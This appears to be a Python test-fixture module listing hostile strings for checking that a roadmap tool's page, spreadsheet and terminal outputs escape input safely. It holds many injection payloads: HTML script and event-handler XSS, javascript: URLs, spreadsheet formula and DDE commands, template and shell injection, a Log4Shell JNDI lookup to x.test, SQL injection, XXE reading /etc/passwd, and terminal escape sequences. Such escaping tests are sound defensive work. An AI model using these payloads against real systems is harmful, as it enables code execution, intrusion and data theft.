"""Texts that a stranger may write into a roadmap to make something else of a page, a cell or a terminal.

By what they try. Each is a text that every output must show as it is, or with its acting signs made visible.
"""

HTML = (
    "<script>boo()</script>", "</script><script>boo()</script>", "<ScRiPt src=//x.test/a.js></sCrIpT>",
    "<img src=x onerror=boo()>", "<img src='https://x.test/p.png'>", "<svg onload=boo()>",
    "<svg/onload=boo()//", "<body onload=boo()>", "<iframe src='javascript:boo()'></iframe>",
    "<iframe srcdoc='<script>boo()</script>'>", "<object data='data:text/html,<script>boo()</script>'>",
    "<embed src='//x.test/e.swf'>", "<details open ontoggle=boo()>",
    "<video><source onerror=boo()></video>", "<audio src onerror=boo()>", "<input autofocus onfocus=boo()>",
    "<select onfocus=boo() autofocus>", "<marquee onstart=boo()>",
    "<form action='https://x.test'><button>go</button></form>",
    "<button formaction=javascript:boo()>x</button>", "<base href='https://x.test/'>",
    "<link rel=stylesheet href='//x.test/s.css'>", "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<style>*{display:none}</style>", "</style><script>boo()</script>", "</title><script>boo()</script>",
    "</textarea><script>boo()</script>", "</noscript><script>boo()</script>",
    "<noscript><p title='</noscript><img src=x onerror=boo()>'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=boo()>",
    "<template><script>boo()</script></template>",
    "<svg><a xlink:href='javascript:boo()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=boo()/>#x'/>",
    "<svg><animate onbegin=boo() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:boo()>",
    "<svg><foreignObject><script>boo()</script></foreignObject></svg>", "<a href=javascript:boo()>x</a>",
    "<a href='java\tscript:boo()'>x</a>", "<a href='\x01javascript:boo()'>x</a>",
    "<isindex action=javascript:boo() type=image>", "<!--<img src='--><img src=x onerror=boo()//'>",
    "<![CDATA[<script>boo()</script>]]>", "<?xml-stylesheet href='javascript:boo()'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<x onclick=boo()>",
    "<x/onmouseover=boo()>", "<\x00script>boo()</script>", '"><script>boo()</script>',
    "'><script>boo()</script>", '" onmouseover="boo()', "' onmouseover='boo()", "` onmouseover=`boo()",
    '" autofocus onfocus=boo() x="', "--><script>boo()</script><!--", "]]><script>boo()</script>",
    "*/</style><script>boo()</script>/*", "&lt;script&gt;boo()&lt;/script&gt;",
    "&#60;script&#62;boo()&#60;/script&#62;", "&#x3c;script>boo()", "&amp;lt;b&amp;gt;",
    "&copy &euro; &notanentity;", "&#0;&#1;&#128;&#xD800;&#x110000;", "＜script＞boo()＜/script＞",
    "<ſcript>boo()</ſcript>", "%3Cscript%3Eboo()%3C/script%3E",
    "\\u003cscript\\u003eboo()\\u003c/script\\u003e", "<b>bold</b> <i>not</i>", "a < b && c > d", "<", ">",
    "&", '"', "'", "`", "<>", "</", "<!", "<?", "<a", "1<2", "x<y>z",
)  # fmt: skip
ADDRESSES = (
    "javascript:boo()", "JaVaScRiPt:boo()", "java\nscript:boo()", "\tjavascript:boo()",
    "javascript&colon;boo()", "javascript&#58;boo()", "data:text/html,<script>boo()</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:x",
    "//x.test/a.png", "\\\\x.test\\share", "https://x.test/<script>", "https://x.test/'onclick='boo()",
    'https://x.test/"onclick="boo()', "https://x.test/a)b", "https://x.test/a|b", "https://x.test/`a`",
    "http://x.test/?q=<img src=x onerror=boo()>", "https://user:pass@x.test/", "https://x.test#<b>",
    "mailto:a@x.test?subject=<b>", "http://\u202egnp.test/", "https://xn--80ak6aa92e.test", "www.x.test",
    "a@x.test", "ftp://x.test/a", "tel:+1", "feed:https://x.test",
)  # fmt: skip
STYLE = (
    "expression(boo())", "x;background:url(//x.test/p.png)", "};*{display:none}", "';}body{display:none}",
    "\\27;color:red", "@import '//x.test/a.css';", "url(javascript:boo())", "</style>", "/* */ } { /*",
    "behavior:url(x.htc)", "-moz-binding:url(x)", "\\", "\\\\", "a\\", "'", "content:'x'", "--l1:'x'", "{",
    "}", ";", "0;}",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:boo())", "[x](<javascript:boo()>)", "![x](https://x.test/p.png)",
    "![x][y]\n\n[y]: https://x.test/p.png", "[x]: javascript:boo()", "<javascript:boo()>",
    "<https://x.test/p.png>", "[![x](//x.test/p.png)](//x.test)", "[x](data:text/html,boo)",
    '[x](https://x.test "t" onclick=boo())', "https://x.test/p.png", "www.x.test/p.png", "# heading",
    "## h ##", "- item", "* item", "+ item", "1. item", "1) item", "> quote", "---", "===", "***", "___",
    "```", "~~~", "``` js\nboo()\n```", "    code", "\tcode", "`code`", "``a`b``", "**bold**", "*it*",
    "__b__", "_i_", "~~gone~~", "2030~ to 2035~", "|a|b|", "a|b", "a\\|b", "|", "||", "|-|-|", ":-:|:-:",
    "a\nb", "a\r\nb", "a\rb", "\\", "\\\\", "\\*", "a\\", "<br>", "<br/>", "&nbsp;", "[ ] todo", "[x] done",
    "- [ ] todo", "[^1]", "[^1]: note", "@name", "@org/team", "#12", "GH-12", "org/repo#1",
    "a1b2c3d4e5f6a1b2c3d4e5f6a1b2c3d4e5f6a1b2", ":smile:", ":+1:", "$x^2$", "$$x$$", "\\(x\\)", "$`x`$",
    "{:.class}", "{{x}}", "{%x%}", "[[wiki]]", "!123", "%1", "&1", "^1", "~label", "<kbd>x</kbd>",
    "<details><summary>x</summary>", "<!-- x", "-->", "[TOC]", "[[_TOC_]]", "::: warning", "> [!NOTE]",
    "term\n: definition", "a  \nb", "a\n\nb", "a\n---\nb", "a\n===\nb", "a\n# b", "a\n- b", "a\n> b",
    "a\n```\nb", "![", "[", "]", "](", "[]()", "![]()", "[a][b]", "[a][]", "*", "**", "_", "~", "`", "(",
    ")", "!",
)  # fmt: skip
FORMULAS = (
    "=1+1", '=HYPERLINK("http://x.test";"x")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML("//x.test","//a")',
    '=WEBSERVICE("http://x.test")', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\xa0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
    "＝1+1", "＋1", "－1", "＠x", "-", "-5", "+5", "-5%",
    "=", "@", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "a,=1+1", "a;=1+1", "a\n=1+1", 'a",=1+1,"',
    "%0A-3+3+cmd|' /C calc'!D2", "|calc", "\\=1",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "{{self}}", "{{page}}", "{#x#}", "{{",
    "}}", "{%", "%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "@{7*7}", "{0}", "{0.__class__}", "{n}",
    "{x!r}", "{title}", "{path}", "{}", "{", "}", "%s", "%n", "%(x)s", "%d%s%n", "$(id)", "`id`", "; id",
    "| id", "&& id", "\\x41", "\\u0041", "\\N{DIGIT ONE}", "$HOME", "%PATH%", "~root",
)  # fmt: skip
MERMAID = (
    "end", "call x", "call boo()", "click n1 boo()", 'click n1 href "javascript:boo()"', "a:b", "a: b",
    "a --> b", 'n1["x"]', "subgraph x", '%%{init: {"securityLevel": "loose"}}%%', "%% comment",
    "style n1 fill:red", "classDef x", "section x", "title x", "a#quot;b", "#35;", '"]\nclick n1 boo()',
    "A---oB", "a;b", "```\n<script>boo()</script>",
)  # fmt: skip
BIDI = (
    "2030\u202e5202", "a\u202eb\u202cc", "\u202dx", "\u202ax\u202by", "\u2066x\u2069", "\u2067x", "\u2068x",
    "\u200ex\u200f", "\u061cx", "\u202e", "admin\u202etxt.exe", "שלום 2030", "מפת דרכים (טיוטה) 55%",
    "مرحبا 2030", "هدف 15% <b>", "A שלום B مرحبا C", "שלום", "ﷺ", "مرحبا)", "(שלום",
)  # fmt: skip
UNSEEN = (
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "\ufeffa", "a\xadb", "a͏b", "ᅟa", "ㅤ", "aㅤb", "\u2028a",
    "a\u2029b", "a\x85b", "\xa0a", "\u3000a", "a\u180eb", "\U000e0001a", "\U000e0061\U000e0062x",
    "\U000f0000x", "\ue000x", "\ufffex", "\uffffx", "\ufff9a\ufffab\ufffb", "￼x", "�x", "a\xa0b", "⠀x",
    "x️", "︎x",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "a\x01b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1fb", "a\x7fb", "a\x80b", "a\x9fb",
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://x.test\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;Ym9v\x07", "\x1bP$q\x1b\\", "\x1bc", "\x1b(0",
    "\x1b[6n", "\x9b31mred", "\x9d0;t\x07", "\x9c", "\x90x\x9c", "\x84\x85", "a\rb", "\rerror: none",
    "a\x08\x08b", "\x0e\x0f", "\x1a", "\x04", "\x1b[?1049h", "\x1b]1337;File=:\x07", "\x05", "\x1b",
)  # fmt: skip
LETTERS = (
    "Ṩ̴̡̛͙̹̮͇̗̣̈́̿̓̂z̴a̷l̸g̵o̶", "é", "́e", "́", "한글", "ﬁ ﬃ Ⅷ ㎏ ½", "ＡＢＣ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𠮷野家",
    "👩\u200d🔬 👨\u200d👩\u200d👧\u200d👦 🇨🇳 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "👍🏽", "☃️", "ß ẞ ı İ ſ K Å", "ẛ̣", "क्ष त्र", "กำ", "ᚠᛇᚻ", "꧁༺x༻꧂", "﷽", "Ω≈ç√∫˜µ≤≥÷",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "社會科學院語學研究所", "田中さんにあげて下さい", "¡™£¢∞§¶•ªº–≠",
    "జ్ఞ\u200cా", "⁰⁴⁵₀₁₂", "Ⱥ Ⱦ", "𝟘𝟙𝟚",
    "١٢٣", "零一二", "K̸", "a⃝",
)  # fmt: skip
WORDS = (
    "null", "true", "NO", "~", "undefined", "NaN", "Infinity", "-0", "1e999", "0x10", "017", "1_000",
    "1,000", "1:30", "2030-06-30", "constructor", "__proto__", "prototype", "toString", "hasOwnProperty",
    "CON", "NUL", "aux", "COM1", "../x", "..\\x", "/etc/passwd", "C:\\x", "a/b", "a\\b", ".", "..",
    ".hidden", "x.", "x ", " x", "*", "?", "a#b", "a # b", "# a", "a: b", ": a", "- a", "? a", "!a", "&a",
    "*a", "%a", "@a", "|", ">", "'", '"', "''", '""', "[a", "{a", "DROP TABLE x; --", "' OR 1=1 --",
    "() { :;}; echo", "${jndi:ldap://x.test/a}", "::error ::x", "::set-output name=x::y", "::add-mask::x",
    "##[error]x", "%0A::error::x", "a%25b", "BEGIN:VCALENDAR", "END:VEVENT\r\nBEGIN:VALARM", "a;b,c:d\\n",
)  # fmt: skip
LONG = (
    "W" * 200,
    "钢" * 200,
    "https://x.test/" + "a" * 180,
    "a " * 99 + "a",
    "-" * 190,
    "|" * 150,
    "<" * 150,
    "*_" * 90,
    "\u0301" * 150,
    "🏭" * 100,
    "`" * 151,
)

ALL: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *HTML,
            *ADDRESSES,
            *STYLE,
            *MARKDOWN,
            *FORMULAS,
            *TEMPLATES,
            *MERMAID,
            *BIDI,
            *UNSEEN,
            *CONTROLS,
            *LETTERS,
            *WORDS,
            *LONG,
        )
    )
)


def quoted(text: str) -> str:
    """A text in YAML's double quotes, everything but plain ASCII by its number."""
    out = []
    for char in text:
        code = ord(char)
        if char in '"\\':
            out.append(f"\\{char}")
        elif 32 <= code < 127:
            out.append(char)
        else:
            out.append(f"\\U{code:08x}" if code > 0xFFFF else f"\\u{code:04x}")
    return f'"{"".join(out)}"'
